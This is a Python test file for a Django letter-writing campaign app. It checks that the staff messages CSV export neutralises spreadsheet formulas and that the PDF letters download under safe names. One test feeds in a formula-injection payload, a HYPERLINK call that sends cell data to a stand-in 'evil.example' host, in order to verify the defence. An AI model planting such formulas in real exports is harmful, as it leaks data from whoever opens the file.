"""Staff's CSV of messages goes through the one CSV writer (formulas neutralised); the printable letters
download under a safe file name."""

from __future__ import annotations

import csv
import io

import pytest

from coalition.letters import services, tokens
from coalition.letters.tests.helpers import write
from coalition.lib.tests.helpers import saved_name

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'


def test_a_formula_typed_by_a_writer_comes_out_of_the_messages_csv_neutralised(client, carol, action):
    services.letter_confirm(letter=write(action, name=FORMULA, town="@SUM(1+1)", email="ana@example.org"))
    client.force_login(carol)

    response = client.get(f"/act/{action.slug}/staff/messages.csv")

    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert (row["writer_name"], row["writer_town"]) == ("'" + FORMULA, "'@SUM(1+1)")
    assert row["writer_email"] == "ana@example.org" and row["message"].isdigit()
    assert saved_name(response) == "write-to-norway-messages.csv"


def test_the_printable_letter_downloads_as_a_pdf(client, action):
    letter = write(action, delivery="post")
    services.letter_confirm(letter=letter)
    link = tokens.letter_token(letter, salt=tokens.LETTER_LINK_SALT)

    response = client.get(f"/act/letter/{link}/letter.pdf")

    assert response.status_code == 200 and saved_name(response) == "letter-write-to-norway.pdf"


def test_staffs_pdf_for_one_official_downloads_as_a_pdf(client, carol, action, minister):
    services.letter_confirm(letter=write(action))
    client.force_login(carol)

    response = client.get(f"/act/{action.slug}/staff/officials/{minister.pk}.pdf")

    assert response.status_code == 200 and saved_name(response) == f"write-to-norway-{minister.pk}.pdf"
